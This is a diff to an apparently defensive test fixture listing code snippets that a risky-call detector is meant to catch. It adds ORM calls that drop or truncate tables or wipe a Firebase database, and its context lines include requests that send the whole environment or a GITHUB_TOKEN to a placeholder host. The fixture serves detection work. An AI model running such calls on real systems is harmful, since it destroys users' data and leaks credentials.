@@ -131,6 +131,16 @@ const CALLS: [Language, string][] = [
   ['python', 'requests.post("https://x.example.com/graphql", data=body)\n'],
   ['python', 'client.refunds.create(charge="ch_1")\n'],
   ['node', 'await api.payouts.create({ amount: 100 })\n'],
+  // codeOrmWipes.ts: ORM calls that empty or drop tables.
+  ['node', 'await sequelize.sync({ force: true })\n'],
+  ['python', 'Base.metadata.drop_all(engine)\n'],
+  ['node', "await knex('users').truncate()\n"],
+  ['node', 'await knex.schema.dropTable("users")\n'],
+  ['node', 'await dataSource.synchronize(true)\n'],
+  ['node', 'await conn.dropCollection("users")\n'],
+  ['node', 'await AppDataSource.manager.clear(User)\n'],
+  ['node', "await admin.database().ref('/').set(null)\n"],
+  ['ruby', 'Order.destroy_all\n'],
   // envSends.ts: the environment, or a variable of it, in a request.
   ['python', 'requests.post("https://x.example", data=dict(os.environ))\n'],
   ['node', "fetch('https://x.example/?t=' + process.env.GITHUB_TOKEN)\n"],
